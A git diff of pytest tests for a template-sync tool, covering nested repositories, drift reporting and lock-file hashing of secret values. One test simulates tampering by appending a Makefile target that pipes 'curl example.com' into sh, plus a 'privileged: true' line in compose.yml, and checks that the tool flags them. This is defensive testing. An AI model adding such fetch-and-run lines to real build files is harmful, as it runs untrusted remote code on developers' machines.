@@ -384,3 +384,107 @@ def test_an_uninitialised_submodule_is_never_written(
     assert result.code == 1, result.err
     assert not (svc / "libs/shared/x.txt").exists()
     assert (svc / "a.txt").read_text() == "b\n"
+
+
+def _nested_service(
+    capsys: pytest.CaptureFixture[str], workdir: Path, policy: str
+) -> tuple[Path, Path]:
+    """A service whose vendor/lib (rendered by the blueprint) became a nested
+    repository; then a release that changes vendor/lib/conf.txt."""
+    v1 = {"synctool.yml": policy, "vendor/lib/conf.txt": "v1\n", "a.txt": "a\n"}
+    bp, svc = _service(capsys, workdir, v1)
+    lib = svc / "vendor/lib"
+    git(lib, "init", "-q")
+    git(lib, "add", "-A")
+    git(lib, "commit", "-qm", "nested")
+    git(svc, "add", "-A")
+    git(svc, "commit", "-qm", "nested", "--allow-empty")
+    _release(bp, {**v1, "vendor/lib/conf.txt": "v2 security fix\n"})
+    return bp, svc
+
+
+@pytest.mark.parametrize(
+    "policy",
+    ["ownership:\n  managed: [vendor/**]\n", "ownership:\n  seeded: [nothing]\n"],
+    ids=["managed", "merged"],
+)
+def test_a_blueprint_change_inside_a_nested_repository_stays_reported(
+    capsys: pytest.CaptureFixture[str], workdir: Path, policy: str
+) -> None:
+    _bp, svc = _nested_service(capsys, workdir, policy)
+    lib = svc / "vendor/lib"
+    update = run_cli(capsys, "update", str(svc))
+    assert update.code == 1, update.err
+    assert (lib / "conf.txt").read_text() == "v1\n"
+    git(svc, "add", "-A")
+    git(svc, "commit", "-qm", "update", "--allow-empty")
+    # not forgotten: check and the next sync still say so
+    check = run_cli(capsys, "check", str(svc))
+    assert check.code == 1, check.out
+    assert "vendor/lib/conf.txt" in check.out
+    again = run_cli(capsys, "sync", str(svc), "--format", "json")
+    assert again.code == 1, again.err
+    assert json.loads(again.out)["conflicts"] == ["vendor/lib/conf.txt"]
+    # check --fix never writes inside the nested repository
+    fixed = run_cli(capsys, "check", str(svc), "--fix")
+    assert fixed.code == 1, fixed.out
+    assert (lib / "conf.txt").read_text() == "v1\n"
+    assert git(lib, "status", "--porcelain") == ""
+    # applied there by its owners: resolved
+    (lib / "conf.txt").write_text("v2 security fix\n")
+    git(lib, "commit", "-qam", "apply the blueprint's fix")
+    git(svc, "add", "-A")
+    git(svc, "commit", "-qm", "bump", "--allow-empty")
+    assert run_cli(capsys, "check", str(svc)).code == 0
+    assert run_cli(capsys, "sync", str(svc)).code == 0
+
+
+def test_drift_inside_a_nested_repository_is_not_reported_nor_fixed(
+    capsys: pytest.CaptureFixture[str], workdir: Path
+) -> None:
+    _bp, svc = _nested_service(capsys, workdir, "ownership:\n  managed: [vendor/**]\n")
+    lib = svc / "vendor/lib"
+    (lib / "conf.txt").write_text("theirs to edit\n")
+    git(lib, "commit", "-qam", "edit")
+    check = run_cli(capsys, "check", str(svc), "--fix")
+    assert check.code == 0, check.out + check.err
+    assert (lib / "conf.txt").read_text() == "theirs to edit\n"
+    assert git(lib, "status", "--porcelain") == ""
+
+
+def test_a_guessable_secret_answer_does_not_hide_drift(
+    capsys: pytest.CaptureFixture[str], workdir: Path
+) -> None:
+    copier = COPIER + "db_password:\n  type: str\n  secret: true\n  default: postgres\n"
+    files = {
+        "synctool.yml": "ownership:\n  managed: [Makefile, compose.yml]\n",
+        "Makefile": "db:\n\tdocker compose up -d postgres\n",
+        "compose.yml.jinja": "image: postgres:16\npassword: '{{ db_password }}'\n",
+    }
+    _bp, svc = _service(capsys, workdir, files, copier)
+    locked = _lock(svc)
+    assert locked["Makefile"]["sha256"] == _sha(files["Makefile"])
+    assert "sha256" in locked["compose.yml"]
+    git(svc, "add", "-A")
+    git(svc, "commit", "-qm", "init", "--allow-empty")
+    with (svc / "Makefile").open("a") as handle:
+        handle.write("evil:\n\tcurl example.com | sh\n")
+    with (svc / "compose.yml").open("a") as handle:
+        handle.write("privileged: true\n")
+    result = run_cli(capsys, "check", "svc")
+    assert result.code == 1, result.out
+    assert "Makefile" in result.out and "compose.yml" in result.out
+
+
+def test_locked_files_hash_files_holding_only_guessable_secret_values() -> None:
+    tree = {
+        "Makefile": FileEntry(b"up:\n\tdocker compose up postgres\n"),
+        "pin.env": FileEntry(b"PIN=1234\n"),
+        "app.env": FileEntry(b"TOKEN=s3cret-value\nDB=postgres\n"),
+    }
+    files = locked_files(
+        tree, lambda path: "managed", secrets=["postgres", "1234", "s3cret-value"]
+    )
+    assert files["Makefile"].sha256 == _sha("up:\n\tdocker compose up postgres\n")
+    assert files["pin.env"].sha256 == _sha("PIN=1234\n")
+    assert files["app.env"].sha256 is None
